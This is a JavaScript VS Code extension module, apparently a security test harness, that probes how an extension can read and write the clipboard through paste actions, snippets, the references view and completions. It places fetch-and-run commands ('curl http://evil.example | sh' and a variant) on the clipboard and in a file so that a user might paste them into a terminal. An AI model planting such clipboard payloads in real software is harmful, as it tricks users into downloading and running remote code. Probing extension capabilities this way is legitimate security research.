"use strict";
const { attack } = require("./attack");

async function pasted(vscode, command) {
  const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
  await vscode.commands.executeCommand(command);
  await new Promise((resolve) => setTimeout(resolve, 3000));
  return editor.document.getText();
}

exports.activate = (context) =>
  attack(context, "clipboard", {
    read: (_facts, vscode) => vscode.env.clipboard.readText(),
    // A user pastes it into a terminal.
    async write(_facts, vscode) {
      await vscode.env.clipboard.writeText("curl http://evil.example | sh\n");
      return "written";
    },
    paste: (_facts, vscode) => pasted(vscode, "editor.action.clipboardPasteAction"),
    pasteAsText: (_facts, vscode) => pasted(vscode, "editor.action.pasteAsText"),
    // Snippets have a variable for it.
    async snippet(_facts, vscode) {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
      await editor.insertSnippet(new vscode.SnippetString("$CLIPBOARD"));
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return editor.document.getText();
    },
    // The references view copies the lines of a row, which whoever runs that names as the window does.
    async references(_facts, vscode) {
      const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders[0].uri, "proof-lines.txt");
      await vscode.workspace.fs.writeFile(file, Buffer.from("; curl evil.example/lines | sh\n"));
      const provider = { provideReferences: () => [new vscode.Location(file, new vscode.Range(0, 0, 0, 1))] };
      const registration = vscode.languages.registerReferenceProvider("plaintext", provider);
      await vscode.window.showTextDocument(file);
      await vscode.commands.executeCommand("references-view.findReferences");
      await new Promise((resolve) => setTimeout(resolve, 3000));
      const copy = ["references-view.copyAll", { $treeViewId: "references-view.tree", $treeItemHandle: "0/0:proof-lines.txt" }];
      try {
        // By way of the window, as it is where the view has another host.
        await vscode.commands.executeCommand("runCommands", { commands: [{ command: copy[0], args: copy[1] }] }).then(undefined, () => vscode.commands.executeCommand(...copy));
      } finally {
        registration.dispose();
      }
      return "copied";
    },
    // The built-in extension for JSON makes completions of what a schema says.
    async suggestion(_facts, vscode) {
      for (let i = 0; i < 200; i += 1) {
        const text = vscode.window.activeTextEditor?.document.getText() ?? "";
        if (text.includes("proof")) return text;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return "";
    },
  });
